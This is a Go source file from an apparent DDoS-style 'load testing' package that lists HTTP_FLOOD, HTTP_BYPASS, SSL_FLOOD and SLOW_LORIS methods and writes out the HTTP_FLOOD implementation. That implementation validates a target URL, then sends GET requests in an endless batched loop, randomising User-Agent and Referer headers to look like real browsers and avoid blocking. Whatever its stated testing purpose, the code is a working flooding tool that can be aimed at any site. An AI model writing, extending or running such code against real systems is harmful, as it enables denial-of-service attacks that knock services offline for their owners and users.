// Package httpmethods implements the HTTP fleet's load methods: HTTP_FLOOD,
// HTTP_BYPASS, SSL_FLOOD and SLOW_LORIS.
package httpmethods

import (
	"context"
	"net/url"
	"time"

	"github.com/Gh05t666nero/nrtf/internal/core/domain"
	"github.com/Gh05t666nero/nrtf/internal/util"
	"github.com/Gh05t666nero/nrtf/internal/worker"
)

// HTTPFlood issues plain GET floods with rerandomized browser headers. The
// rpc parameter batches that many requests per outer iteration.
type HTTPFlood struct{}

func NewHTTPFlood() *HTTPFlood { return &HTTPFlood{} }

func (m *HTTPFlood) Name() string { return "HTTP_FLOOD" }

func (m *HTTPFlood) Prepare(params *domain.TestParameters) error {
	params.Target = domain.NormalizeHTTPTarget(params.Target)
	if _, err := url.Parse(params.Target); err != nil {
		return domain.NewValidationError("target", "target is not a valid URL")
	}
	return nil
}

func (m *HTTPFlood) RunUnit(ctx context.Context, run *worker.TestRun) {
	target := run.Params.Target
	rpc := run.Params.IntParam("rpc", 1)
	if rpc < 1 {
		rpc = 1
	}

	client := newClient(run)
	release, ok := trackClient(run, client)
	if !ok {
		return
	}
	defer release()

	headers := floodHeaders(target)
	for ctx.Err() == nil {
		for i := 0; i < rpc && ctx.Err() == nil; i++ {
			headers["User-Agent"] = util.Pick(userAgents)
			headers["Referer"] = util.Pick(referers) + target
			if err := doRequest(ctx, client, target, headers, run); err != nil {
				sleepCtx(ctx, 100*time.Millisecond)
				break
			}
		}
	}
}
